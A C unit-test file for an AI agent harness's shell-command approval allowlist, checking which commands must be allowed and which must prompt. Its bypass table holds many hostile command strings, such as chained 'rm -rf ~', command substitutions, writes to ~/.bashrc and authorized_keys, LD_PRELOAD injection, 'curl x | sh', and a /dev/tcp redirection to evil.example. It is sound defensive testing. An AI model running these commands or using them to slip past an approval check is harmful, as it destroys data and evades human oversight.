/* test_policy.c — the approval policy's allowlist (rig/policy.h) through its
 * public API, attacked. One allowlist, built with rig_allowlist_add, serves
 * the verdict tests:
 *
 *   shell       "git log *", "ls *", "echo hello", "npm run build *", "sort *",
 *               "find *"
 *   write_file  "/tmp/x/notes.txt"
 *   think       "*"
 *
 * The heart is a table of bypass attempts: shell commands that start like
 * an allowed one but run something else (a second command in a list or a
 * pipeline, a substitution, a redirection that writes a file, an
 * assignment, an expansion as the command name, what the parser cannot
 * read), each of which must give RIG_VERDICT_ASK. A second table holds
 * commands that must be allowed (spacing, quoting, a non-literal argument
 * under "*", redirections that write no file). Then the other tools,
 * the reason text, rig_allowlist_suggest, save and load, and
 * rig_policy_mode_parse.
 *
 * The shell tool's arguments are {"command": "..."}. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <sys/stat.h>
#include <unistd.h>

#include "testing.h"

#include "rig/policy.h"

static rig_allowlist *al;

static void add_ok(rig_allowlist *a, const char *tool, const char *pattern) {
    rig_error err;
    rig_error_clear(&err);
    int rc = rig_allowlist_add(a, tool, pattern, &err);
    if (rc != RIG_OK)
        fail_msg("add %s \"%s\": %d %s", tool, pattern, rc, err.message);
}

/* The allowlist every verdict test uses. */
static void fill(rig_allowlist *a) {
    add_ok(a, "shell", "git log *");
    add_ok(a, "shell", "ls *");
    add_ok(a, "shell", "sort *");
    add_ok(a, "shell", "find *");
    add_ok(a, "shell", "echo hello");
    add_ok(a, "shell", "npm run build *");
    add_ok(a, "write_file", "/tmp/x/notes.txt");
    add_ok(a, "think", "*");
}

static int setup(void **state) {
    (void)state;
    al = rig_allowlist_new();
    if (!al)
        return -1;
    fill(al);
    return 0;
}

static int teardown(void **state) {
    (void)state;
    rig_allowlist_free(al);
    return 0;
}

/* {"<key>": "<s escaped>"} into a malloc'd string. */
static char *args_of(const char *key, const char *s) {
    size_t cap = strlen(key) + 6 * strlen(s) + 16;
    char *out = malloc(cap);
    assert_non_null(out);
    size_t o = (size_t)snprintf(out, cap, "{\"%s\":\"", key);
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if (*p == '"' || *p == '\\') {
            out[o++] = '\\';
            out[o++] = (char)*p;
        } else if (*p < 0x20) {
            o += (size_t)snprintf(out + o, cap - o, "\\u%04x", *p);
        } else {
            out[o++] = (char)*p;
        }
    }
    memcpy(out + o, "\"}", 3);
    return out;
}

/* The input with control characters shown, for messages. */
static const char *shown(const char *s) {
    static char buf[1024];
    size_t o = 0;
    for (; *s && o + 8 < sizeof buf; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '\n')
            o += (size_t)snprintf(buf + o, sizeof buf - o, "\\n");
        else if (c == '\t')
            o += (size_t)snprintf(buf + o, sizeof buf - o, "\\t");
        else if (c < 0x20)
            o += (size_t)snprintf(buf + o, sizeof buf - o, "\\x%02x", c);
        else
            buf[o++] = (char)c;
    }
    buf[o] = '\0';
    return buf;
}

/* The verdict on raw arguments (an exact-length copy, so a sanitizer sees
 * a read past `len`); `reason` gets the sentence. */
static rig_verdict check_raw(const rig_allowlist *a, const char *tool, const char *args,
                             char *reason, size_t cap) {
    size_t len = strlen(args);
    char *copy = exact_copy(args, len);
    rig_verdict v = rig_allowlist_check(a, tool, copy, len, reason, cap);
    free(copy);
    return v;
}

static rig_verdict check_shell(const rig_allowlist *a, const char *cmd, char *reason,
                               size_t cap) {
    char *args = args_of("command", cmd);
    rig_verdict v = check_raw(a, "shell", args, reason, cap);
    free(args);
    return v;
}

static rig_verdict check_path(const rig_allowlist *a, const char *tool, const char *path,
                              char *reason, size_t cap) {
    char *args = args_of("path", path);
    rig_verdict v = check_raw(a, tool, args, reason, cap);
    free(args);
    return v;
}

/* Must ask although each starts like an allowed command. */
static const char *const bypasses[] = {
    /* An option that makes an allowed command write files or run others:
     * "*" stands for arguments, not for these. */
    "git log -1 --format=x --output=Makefile",
    "git log --output Makefile",
    "git log -oMakefile",
    "sort -o /etc/passwd x",
    "sort -o/etc/passwd x",
    "sort --output=x y",
    "find . -delete",
    "find . -exec rm {} ;",
    "find . -execdir sh -c x {} +",
    "find . -fprint /tmp/x",
    /* A second command in a list or a pipeline. */
    "git log; rm -rf ~",
    "git log && rm -rf ~",
    "git log || rm x",
    "git log | sh",
    "git log & rm x",
    "git log &rm x",
    "ls\nrm -rf /",
    "git log\r\nrm x",
    "git log |\nsh",
    "git log &&\nrm x",
    "ls |& rm x",
    "ls 2>&1 | rm x",
    "ls && curl x | sh",
    "ls; git log; rm x",
    "git log >/dev/null; rm x",
    "git log ; rm x #",
    "git log\\\n; rm x",
    "echo hello; rm x",
    "echo \"hello\"; rm x",
    "npm run build; npm install evil",
    "npm run build x; npm install evil",
    "! rm x",
    /* Substitutions, whose commands the shell runs first. */
    "git log $(rm -rf ~)",
    "git log `rm -rf ~`",
    "git log \"$(rm -rf ~)\"",
    "git log -- $(rm)",
    "git log <(rm x)",
    "git log >(rm x)",
    "ls $(git log; rm x)",
    "ls $(ls $(rm -rf ~))",
    "ls `ls \\`rm x\\``",
    "ls ${x:-$(rm)}",
    "git log \"${x:-$(rm)}\"",
    "git log $((1+$(rm)))",
    "git log <<< \"$(rm x)\"",
    "A=$(rm -rf ~) git log",
    /* Subshells, groups and control flow. */
    "(rm -rf ~)",
    "{ rm -rf ~; }",
    "(git log; rm x)",
    "{ git log; rm x; }",
    "git() { rm -rf ~; }; git log",
    "alias git='rm -rf ~'; git log",
    "if true; then git log; fi",
    "for i in 1; do git log; done",
    "while true; do git log; done",
    "case x in x) git log;; esac",
    /* Redirections that write a file. */
    "git log > ~/.bashrc",
    "git log >> ~/.ssh/authorized_keys",
    "git log 2> ~/.profile",
    "git log &> /tmp/out",
    "git log >| f",
    "git log>~/.bashrc",
    "> ~/.bashrc git log",
    "git log 1>&2 >> ~/.bashrc",
    "ls > /tmp/x/notes.txt",
    /* Assignments in front of an allowed command. */
    "LD_PRELOAD=/tmp/x.so git log",
    "GIT_PAGER='rm -rf ~' git log",
    "PATH=/tmp git log",
    /* A command name the parser cannot be sure of. */
    "$'\\x72m' -rf /",
    "$CMD",
    "$(echo rm) -rf /",
    "\"$CMD\" x",
    "${CMD} log",
    "g${X}it log",
    "~/bin/git log",
    /* Not the pattern: more or other words. */
    "echo hello world",
    "echo helloo",
    "echo",
    "git logx",
    "gitlog",
    "git",
    "npm run buildx",
    "npm run",
    "git -c core.pager=evil log",
    "\\rm -rf ~",
    /* Commands that run other commands. */
    "eval git log",
    "sh -c 'git log'",
    "bash -c \"git log\"",
    "exec rm -rf ~",
    "env git log",
    "sudo git log",
    "xargs rm < list",
    "command rm x",
    /* What the parser cannot read. */
    "cat <<EOF\nx\nEOF",
    "git log <<EOF\n$(rm x)\nEOF",
    "git log \"$(rm",
    "git log 'unterminated",
    "git log $(",
    "git log `",
    /* Assignments alone: PATH and HOME are exported already, so git runs
     * from another folder, or reads another ~/.gitconfig (core.pager). */
    "PATH=/tmp/evil; git log",
    "PATH=/tmp/evil\ngit log",
    "HOME=/tmp/evil && git log",
    "GIT_DIR=/tmp/evil; git log",
    "A=$(rm -rf ~)",
    "x=$(rm x); ls",
    "x='$(rm -rf ~)'; git log ${x@P}",
    "git log $[1+$(rm x)]",
    "function git { rm -rf ~; }; git log",
    /* More redirections, and comments and words that hide a command. */
    "git log 3>~/.bashrc",
    "git log &>> /tmp/out",
    "git log >& /tmp/out",
    "git log 2>&1 > ~/.bashrc",
    "git log <> ~/.bashrc",
    "git log > /dev/nullx",
    "git log > /dev/tcp/evil.example/80",
    "git log > >(sh)",
    "git log < <(rm x)",
    "git log # x \\\nrm -rf ~",
    "git log $(# )\nrm x\n)",
    "git log#; rm x",
    "git l?g",
    "\"git log\"",
    "{rm,-rf,/tmp/x}",
};

/* Must be allowed. */
static const char *const allowed[] = {
    "git log",
    "git log --oneline -5",
    "git  log",
    "  git log  ",
    "git\tlog -p",
    "git log\n",
    "git \\\nlog --oneline",
    "\"git\" 'log'",
    "ls -la && git log",
    "ls | git log",
    "git log |& ls",
    "ls; git log; echo hello",
    "git log &",
    "git log 2>&1",
    "git log > /dev/null",
    "git log 2>/dev/null",
    "git log >/dev/null 2>&1",
    "ls < /etc/passwd",
    "echo hello",
    "echo 'hello'",
    "echo hello # a comment; rm x",
    "ls *.c",
    "ls *",
    "ls \"$HOME\"",
    "ls ${HOME}",
    "ls ~",
    "ls '$(rm -rf ~)'",
    "ls \"\\$(rm)\"",
    "git log -- 'a;b'",
    "ls $(git log)",
    "ls `git log`",
    "ls <(git log)",
    "(ls; git log)",
    "{ ls; }",
    "npm run build",
    "npm run build --prod",
    "ls 'a b' c\\ d",
    "git log;",
    "ls \"a\\\" ; rm x\"",
    "git log A=1",
};

static void test_bypasses(void **state) {
    (void)state;
    size_t n = sizeof bypasses / sizeof bypasses[0];
    assert_true(n >= 40);
    size_t failures = 0;
    for (size_t i = 0; i < n; i++) {
        char reason[512] = "";
        if (check_shell(al, bypasses[i], reason, sizeof reason) != RIG_VERDICT_ASK) {
            print_error("bypass %zu allowed: \"%s\" (%s)\n", i, shown(bypasses[i]), reason);
            failures++;
        } else if (reason[0] == '\0') {
            print_error("bypass %zu: \"%s\": no reason\n", i, shown(bypasses[i]));
            failures++;
        }
    }
    if (failures)
        fail_msg("%zu of %zu bypasses got through", failures, n);
}

static void test_allowed(void **state) {
    (void)state;
    size_t n = sizeof allowed / sizeof allowed[0], failures = 0;
    for (size_t i = 0; i < n; i++) {
        char reason[512] = "";
        if (check_shell(al, allowed[i], reason, sizeof reason) != RIG_VERDICT_ALLOW) {
            print_error("allowed %zu asked: \"%s\" (%s)\n", i, shown(allowed[i]), reason);
            failures++;
        } else if (reason[0] == '\0') {
            print_error("allowed %zu: \"%s\": no reason\n", i, shown(allowed[i]));
            failures++;
        }
    }
    if (failures)
        fail_msg("%zu of %zu allowed commands asked", failures, n);
}

/* An empty allowlist asks for every call, even the harmless. */
static void test_empty_list(void **state) {
    (void)state;
    rig_allowlist *a = rig_allowlist_new();
    assert_non_null(a);
    assert_int_equal(check_shell(a, "git log", NULL, 0), RIG_VERDICT_ASK);
    assert_int_equal(check_shell(a, "ls", NULL, 0), RIG_VERDICT_ASK);
    assert_int_equal(check_path(a, "write_file", "/tmp/x/notes.txt", NULL, 0),
                     RIG_VERDICT_ASK);
    assert_int_equal(check_raw(a, "think", "{\"thought\":\"x\"}", NULL, 0), RIG_VERDICT_ASK);
    rig_allowlist_free(a);
}

/* File tools match the path exactly; "*" takes the tool whole; a tool
 * with no pattern asks. */
static void test_other_tools(void **state) {
    (void)state;
    char reason[512];
    assert_int_equal(check_path(al, "write_file", "/tmp/x/notes.txt", reason, sizeof reason),
                     RIG_VERDICT_ALLOW);
    static const char *const other[] = {
        "/tmp/x/notes.txt2", "/tmp/x/notes.tx", "/tmp/x/",          "/tmp/x",
        "/tmp/x/notes.txt/", "/tmp/x//notes.txt", "/tmp/x/../x/notes.txt", "/tmp/x/./notes.txt",
        "tmp/x/notes.txt",   "/TMP/X/NOTES.TXT", "*",                "",
    };
    for (size_t i = 0; i < sizeof other / sizeof other[0]; i++)
        if (check_path(al, "write_file", other[i], reason, sizeof reason) != RIG_VERDICT_ASK)
            fail_msg("write_file \"%s\" allowed (%s)", other[i], reason);

    /* The pattern belongs to write_file alone. */
    assert_int_equal(check_path(al, "edit_file", "/tmp/x/notes.txt", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    /* No path at all, or not a string. */
    assert_int_equal(check_raw(al, "write_file", "{\"content\":\"x\"}", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    assert_int_equal(check_raw(al, "write_file", "{\"path\":[\"/tmp/x/notes.txt\"]}", reason,
                               sizeof reason),
                     RIG_VERDICT_ASK);

    assert_int_equal(check_raw(al, "think", "{\"thought\":\"x\",\"thoughtNumber\":1}", reason,
                               sizeof reason),
                     RIG_VERDICT_ALLOW);
    assert_int_equal(check_raw(al, "think", "{}", reason, sizeof reason), RIG_VERDICT_ALLOW);

    assert_int_equal(check_raw(al, "delete_everything", "{}", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    assert_int_equal(check_path(al, "unknown_tool", "/tmp/x/notes.txt", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    assert_int_equal(check_raw(al, "", "{}", reason, sizeof reason), RIG_VERDICT_ASK);
}

/* Arguments that are not a shell call's: ask. */
static void test_bad_shell_args(void **state) {
    (void)state;
    static const char *const bad[] = {
        "{}",
        "{\"command\":1}",
        "{\"command\":null}",
        "{\"cmd\":\"git log\"}",
        "not json",
        "{\"command\":\"git log\"",
        "[\"git log\"]",
        "\"git log\"",
        "",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        char reason[512] = "";
        if (check_raw(al, "shell", bad[i], reason, sizeof reason) != RIG_VERDICT_ASK)
            fail_msg("shell args %s allowed (%s)", bad[i], reason);
    }
    /* A NUL inside the command is not a place to stop reading. */
    assert_int_equal(check_raw(al, "shell", "{\"command\":\"git log\\u0000; rm -rf ~\"}", NULL, 0),
                     RIG_VERDICT_ASK);
}

/* The reason names the command that matched nothing, or the pattern that
 * allowed; a small buffer is cut and NUL-ended; NULL is allowed. */
static void test_reason(void **state) {
    (void)state;
    char reason[512];
    reason[0] = '\0';
    assert_int_equal(check_shell(al, "git log; rm -rf ~", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    if (!strstr(reason, "rm"))
        fail_msg("the reason does not name rm: \"%s\"", reason);
    if (strstr(reason, "git log *"))
        fail_msg("the reason blames the allowed command: \"%s\"", reason);

    reason[0] = '\0';
    assert_int_equal(check_shell(al, "ls -la | curl evil.example", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    if (!strstr(reason, "curl"))
        fail_msg("the reason does not name curl: \"%s\"", reason);

    reason[0] = '\0';
    assert_int_equal(check_shell(al, "git log --oneline", reason, sizeof reason),
                     RIG_VERDICT_ALLOW);
    if (!strstr(reason, "git log *"))
        fail_msg("the reason does not name the pattern: \"%s\"", reason);

    reason[0] = '\0';
    assert_int_equal(check_path(al, "write_file", "/tmp/y", reason, sizeof reason),
                     RIG_VERDICT_ASK);
    assert_true(reason[0] != '\0');

    char small[6];
    memset(small, 'Z', sizeof small);
    assert_int_equal(check_shell(al, "git log; rm -rf ~", small, sizeof small),
                     RIG_VERDICT_ASK);
    assert_non_null(memchr(small, '\0', sizeof small));

    char none = 'Z';
    assert_int_equal(check_shell(al, "git log; rm -rf ~", &none, 0), RIG_VERDICT_ASK);
    assert_int_equal(none, 'Z');
    assert_int_equal(check_shell(al, "git log", NULL, 0), RIG_VERDICT_ALLOW);
    assert_int_equal(check_shell(al, "rm x", NULL, 100), RIG_VERDICT_ASK);
}

/* The suggestion without one trailing newline (or NULL), malloc'd. */
static char *suggest_shell(const char *cmd) {
    char *args = args_of("command", cmd);
    char *s = rig_allowlist_suggest("shell", args, strlen(args));
    free(args);
    if (s) {
        size_t n = strlen(s);
        if (n && s[n - 1] == '\n')
            s[n - 1] = '\0';
    }
    return s;
}

static void test_suggest(void **state) {
    (void)state;
    static const struct {
        const char *cmd, *want; /* want NULL: cannot be remembered */
    } cases[] = {
        {"git log --oneline", "git log *"},
        {"git log", "git log *"},
        {"git status", "git status *"},
        {"git config user.name x", "git config user.name *"},
        {"npm run build", "npm run build *"},
        {"npm install left-pad", "npm install *"},
        {"docker ps -a", "docker ps *"},
        {"docker compose up -d", "docker compose up *"},
        {"ls -la", "ls *"},
        {"ls", "ls *"},
        {"ls -la | grep x", "ls *\ngrep *"},
        {"ls \"$HOME\"", "ls *"},
        {"bash -c x", "bash -c x"},
        {"sh -c 'rm -rf ~'", "sh -c 'rm -rf ~'"},
        {"sudo rm", "sudo rm"},
        {"env A=1 make", "env A=1 make"},
        {"xargs rm", "xargs rm"},
        {"eval ls", "eval ls"},
        {"/bin/sh -c 'echo hi'", "/bin/sh -c 'echo hi'"},
        {"/usr/bin/env A=1 make", "/usr/bin/env A=1 make"},
        {"python3 build.py", "python3 build.py"},
        {"python3.11 -c x", "python3.11 -c x"},
        {"node server.js", "node server.js"},
        {"sed -n 1p f", "sed -n 1p f"},
        {"make test", "make test"},
        {"git log --output=x", "git log --output=x"},
        {"find . -name x", "find *"},
        {"nodemon x", "nodemon *"},
        {"cat <<EOF\nx\nEOF", NULL},
        {"$CMD x", NULL},
        {"git log \"$(rm", NULL},
        {"if true; then ls; fi", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *got = suggest_shell(cases[i].cmd);
        if (!cases[i].want) {
            if (got)
                fail_msg("suggest \"%s\": want NULL, got \"%s\"", shown(cases[i].cmd),
                         shown(got));
            continue;
        }
        if (!got)
            fail_msg("suggest \"%s\": want \"%s\", got NULL", shown(cases[i].cmd),
                     shown(cases[i].want));
        if (strcmp(got, cases[i].want) != 0) {
            char g[512];
            snprintf(g, sizeof g, "%s", shown(got));
            fail_msg("suggest \"%s\": want \"%s\", got \"%s\"", shown(cases[i].cmd),
                     shown(cases[i].want), g);
        }
        free(got);
    }

    char *args = args_of("path", "/tmp/x/new.txt");
    char *got = rig_allowlist_suggest("write_file", args, strlen(args));
    free(args);
    assert_non_null(got);
    size_t n = strlen(got);
    if (n && got[n - 1] == '\n')
        got[n - 1] = '\0';
    assert_string_equal(got, "/tmp/x/new.txt");
    free(got);
}

/* What a suggestion saves allows the call it came from, and the
 * broadened ones allow their siblings but not a second command. */
static void test_suggest_then_check(void **state) {
    (void)state;
    static const char *const cmds[] = {
        "git log --oneline", "ls -la | grep x", "npm run build", "bash -c x",
        "sudo rm", "docker compose up -d",
    };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        char *s = suggest_shell(cmds[i]);
        if (!s)
            fail_msg("no suggestion for \"%s\"", cmds[i]);
        rig_allowlist *a = rig_allowlist_new();
        assert_non_null(a);
        char *save = NULL;
        for (char *line = strtok_r(s, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
            add_ok(a, "shell", line);
        char reason[512] = "";
        if (check_shell(a, cmds[i], reason, sizeof reason) != RIG_VERDICT_ALLOW)
            fail_msg("\"%s\" asks after its suggestion was added (%s)", cmds[i], reason);
        char more[256];
        snprintf(more, sizeof more, "%s; rm -rf ~", cmds[i]);
        assert_int_equal(check_shell(a, more, NULL, 0), RIG_VERDICT_ASK);
        rig_allowlist_free(a);
        free(s);
    }

    rig_allowlist *a = rig_allowlist_new();
    add_ok(a, "shell", "bash -c x");
    assert_int_equal(check_shell(a, "bash -c y", NULL, 0), RIG_VERDICT_ASK);
    assert_int_equal(check_shell(a, "bash -c x y", NULL, 0), RIG_VERDICT_ASK);
    rig_allowlist_free(a);
}

static char dir[64];

static void remove_dir(void) {
    DIR *d = opendir(dir);
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)))
            if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
                unlinkat(dirfd(d), e->d_name, 0);
        closedir(d);
    }
    rmdir(dir);
}

static void write_text(const char *path, const char *text) {
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    assert_int_equal(fclose(f), 0);
}

static char *read_text(const char *path) {
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    static char buf[8192];
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    buf[n] = '\0';
    fclose(f);
    return buf;
}

static size_t count(const char *hay, const char *needle) {
    size_t n = 0;
    for (const char *p = hay; (p = strstr(p, needle)); p += strlen(needle))
        n++;
    return n;
}

/* Save, then load into a fresh list: the same verdicts; mode 0600; no
 * temporary file left beside; a duplicate added once. */
static void test_save_load(void **state) {
    (void)state;
    snprintf(dir, sizeof dir, "/tmp/rig-policy-XXXXXX");
    assert_non_null(mkdtemp(dir));
    char path[128];
    snprintf(path, sizeof path, "%s/allow.json", dir);

    rig_error err;
    add_ok(al, "shell", "ls *"); /* a duplicate: no-op */
    rig_error_clear(&err);
    int rc = rig_allowlist_save(al, path, &err);
    if (rc != RIG_OK)
        fail_msg("save: %d %s", rc, err.message);

    struct stat st;
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0600);
    const char *text = read_text(path);
    assert_int_equal(count(text, "\"ls *\""), 1);
    assert_int_equal(count(text, "\"git log *\""), 1);

    DIR *d = opendir(dir);
    assert_non_null(d);
    struct dirent *e;
    int entries = 0;
    while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            entries++;
    closedir(d);
    assert_int_equal(entries, 1);

    rig_allowlist *b = rig_allowlist_new();
    assert_non_null(b);
    rc = rig_allowlist_load(b, path, &err);
    if (rc != RIG_OK)
        fail_msg("load: %d %s", rc, err.message);
    /* The same verdicts as the list saved (the tables above say whether
     * those are right). */
    for (size_t i = 0; i < sizeof allowed / sizeof allowed[0]; i++)
        if (check_shell(b, allowed[i], NULL, 0) != check_shell(al, allowed[i], NULL, 0))
            fail_msg("after load, \"%s\" has another verdict", shown(allowed[i]));
    for (size_t i = 0; i < sizeof bypasses / sizeof bypasses[0]; i++)
        if (check_shell(b, bypasses[i], NULL, 0) != check_shell(al, bypasses[i], NULL, 0))
            fail_msg("after load, \"%s\" has another verdict", shown(bypasses[i]));
    assert_int_equal(check_path(b, "write_file", "/tmp/x/notes.txt", NULL, 0),
                     RIG_VERDICT_ALLOW);
    assert_int_equal(check_path(b, "write_file", "/tmp/x/other", NULL, 0), RIG_VERDICT_ASK);
    assert_int_equal(check_raw(b, "think", "{}", NULL, 0), RIG_VERDICT_ALLOW);

    /* Saved again, the same file. */
    char path2[128];
    snprintf(path2, sizeof path2, "%s/again.json", dir);
    assert_int_equal(rig_allowlist_save(b, path2, &err), RIG_OK);
    char first[8192];
    snprintf(first, sizeof first, "%s", read_text(path));
    assert_string_equal(first, read_text(path2));
    rig_allowlist_free(b);

    /* Overwriting keeps mode 0600 and replaces the content. */
    rig_allowlist *c = rig_allowlist_new();
    add_ok(c, "shell", "make *");
    assert_int_equal(rig_allowlist_save(c, path, &err), RIG_OK);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0600);
    rig_allowlist_free(c);
    c = rig_allowlist_new();
    assert_int_equal(rig_allowlist_load(c, path, &err), RIG_OK);
    assert_int_equal(check_shell(c, "make all", NULL, 0), RIG_VERDICT_ALLOW);
    assert_int_equal(check_shell(c, "git log", NULL, 0), RIG_VERDICT_ASK);
    rig_allowlist_free(c);

    /* A missing file is an empty list. */
    char missing[128];
    snprintf(missing, sizeof missing, "%s/missing.json", dir);
    c = rig_allowlist_new();
    assert_int_equal(rig_allowlist_load(c, missing, &err), RIG_OK);
    assert_int_equal(check_shell(c, "git log", NULL, 0), RIG_VERDICT_ASK);
    rig_allowlist_free(c);

    /* Saving into a folder that does not exist fails, and says so. */
    snprintf(missing, sizeof missing, "%s/no/such/dir.json", dir);
    rig_error_clear(&err);
    assert_true(rig_allowlist_save(al, missing, &err) < 0);
    assert_true(err.message[0] != '\0');

    remove_dir();
}

/* Files that are not {"tool": ["pattern", ...]}: RIG_EINVAL, saying so. */
static void test_load_malformed(void **state) {
    (void)state;
    snprintf(dir, sizeof dir, "/tmp/rig-policy-XXXXXX");
    assert_non_null(mkdtemp(dir));
    char path[128];
    snprintf(path, sizeof path, "%s/allow.json", dir);
    static const char *const bad[] = {
        "not json",
        "",
        "[]",
        "[\"git log *\"]",
        "\"git log *\"",
        "{\"shell\": \"git log *\"}",
        "{\"shell\": [1]}",
        "{\"shell\": [\"ls *\", null]}",
        "{\"shell\": [[\"ls *\"]]}",
        "{\"shell\": {\"ls *\": true}}",
        "{\"shell\": [\"git",
        "{\"shell\": [\"ls *\"]} trailing",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        write_text(path, bad[i]);
        rig_allowlist *a = rig_allowlist_new();
        assert_non_null(a);
        rig_error err;
        rig_error_clear(&err);
        int rc = rig_allowlist_load(a, path, &err);
        if (rc != RIG_EINVAL)
            fail_msg("load of '%s': want RIG_EINVAL, got %d", bad[i], rc);
        if (err.message[0] == '\0')
            fail_msg("load of '%s': no message", bad[i]);
        rig_allowlist_free(a);
    }

    /* An empty object is an empty list, and a good file loads. */
    write_text(path, "{}");
    rig_allowlist *a = rig_allowlist_new();
    rig_error err;
    assert_int_equal(rig_allowlist_load(a, path, &err), RIG_OK);
    assert_int_equal(check_shell(a, "ls", NULL, 0), RIG_VERDICT_ASK);
    rig_allowlist_free(a);

    write_text(path, "{\"shell\": [\"git log *\", \"ls *\"], \"write_file\": [\"/w/n.txt\"]}");
    a = rig_allowlist_new();
    assert_int_equal(rig_allowlist_load(a, path, &err), RIG_OK);
    assert_int_equal(check_shell(a, "git log -p", NULL, 0), RIG_VERDICT_ALLOW);
    assert_int_equal(check_shell(a, "ls; rm x", NULL, 0), RIG_VERDICT_ASK);
    assert_int_equal(check_path(a, "write_file", "/w/n.txt", NULL, 0), RIG_VERDICT_ALLOW);
    assert_int_equal(check_path(a, "write_file", "/w/m.txt", NULL, 0), RIG_VERDICT_ASK);
    rig_allowlist_free(a);

    remove_dir();
}

static void test_mode_parse(void **state) {
    (void)state;
    static const struct {
        const char *s;
        rig_policy_mode m;
    } good[] = {
        {"auto", RIG_POLICY_AUTO},
        {"ask", RIG_POLICY_ASK},
        {"read-only", RIG_POLICY_READ_ONLY},
        {"yolo", RIG_POLICY_YOLO},
    };
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++) {
        rig_policy_mode m = (rig_policy_mode)-1;
        if (rig_policy_mode_parse(good[i].s, &m) != 0)
            fail_msg("mode \"%s\" refused", good[i].s);
        assert_int_equal(m, good[i].m);
    }
    static const char *const bad[] = {
        "", "ASK", "readonly", "read_only", "yolo ", " auto", "asks", "a", "never",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        rig_policy_mode m = RIG_POLICY_YOLO;
        if (rig_policy_mode_parse(bad[i], &m) != -1)
            fail_msg("mode \"%s\" accepted", bad[i]);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_bypasses),      cmocka_unit_test(test_allowed),
        cmocka_unit_test(test_empty_list),    cmocka_unit_test(test_other_tools),
        cmocka_unit_test(test_bad_shell_args), cmocka_unit_test(test_reason),
        cmocka_unit_test(test_suggest),       cmocka_unit_test(test_suggest_then_check),
        cmocka_unit_test(test_save_load),     cmocka_unit_test(test_load_malformed),
        cmocka_unit_test(test_mode_parse),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
